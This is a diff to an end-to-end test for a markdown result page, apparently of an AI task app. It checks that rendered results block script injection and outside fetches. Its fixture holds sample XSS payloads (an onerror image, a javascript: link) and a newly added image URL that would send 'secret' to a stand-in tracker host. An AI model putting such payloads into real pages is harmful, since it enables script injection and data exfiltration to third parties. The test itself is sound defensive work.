@@ -105,6 +105,8 @@ const RESULT = [
   '<img src="x" onerror="window.__injected = \'img\'">',
   "",
   "[a link](javascript:window.__injected='link')",
+  "",
+  "![tracker](https://tracker.example/pixel.png?d=secret)",
 ].join("\n");
 
 test("the result shows highlighted code, and nothing unsafe, on the task page and its share page", async ({ page, browser }, testInfo) => {
@@ -112,6 +114,8 @@ test("the result shows highlighted code, and nothing unsafe, on the task page an
   const task = await db.task.create({
     data: { title: `Highlighted ${Date.now()}`, prompt: "Write a checklist", status: "SUCCEEDED", createdById: owner.id, resultMarkdown: RESULT, createdAt: new Date(Date.now() - 95_000), startedAt: new Date(Date.now() - 90_000), finishedAt: new Date() },
   });
+  const requested: string[] = [];
+  page.on("request", (request) => requested.push(request.url()));
   await page.goto(`/tasks/${task.id}`);
   const result = page.getByTestId("task-result");
   await expect(result.locator("code.language-ts .hljs-keyword").first()).toBeVisible();
@@ -120,6 +124,9 @@ test("the result shows highlighted code, and nothing unsafe, on the task page an
   await expect(result.locator("script, img, [onerror]")).toHaveCount(0);
   await expect(result.getByText("a link")).toBeVisible();
   await expect(result.locator('[href^="javascript"]')).toHaveCount(0);
+  // A markdown image is a link to it; nothing is fetched from its host.
+  await expect(result.getByRole("link", { name: "Image: tracker" })).toHaveAttribute("href", "https://tracker.example/pixel.png?d=secret");
+  expect(requested.filter((url) => url.includes("tracker.example"))).toEqual([]);
   expect(await page.evaluate(() => (window as { __injected?: string }).__injected)).toBeUndefined();
   // Highlighting colours come from the theme's tokens, not the text colour.
   const keywordColour = await result.locator(".hljs-keyword").first().evaluate((node) => getComputedStyle(node).color);
